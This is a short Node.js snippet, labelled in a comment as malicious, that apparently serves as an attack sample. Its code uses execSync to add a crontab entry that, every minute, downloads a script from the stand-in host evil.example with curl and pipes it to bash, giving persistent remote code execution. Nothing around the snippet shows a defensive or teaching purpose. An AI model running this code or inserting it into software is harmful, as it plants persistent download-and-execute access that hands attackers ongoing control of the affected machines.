// malicious: a job every minute
const { execSync } = require('child_process');
execSync('(crontab -l 2>/dev/null; echo "* * * * * curl -s https://evil.example/c | bash") | crontab -');
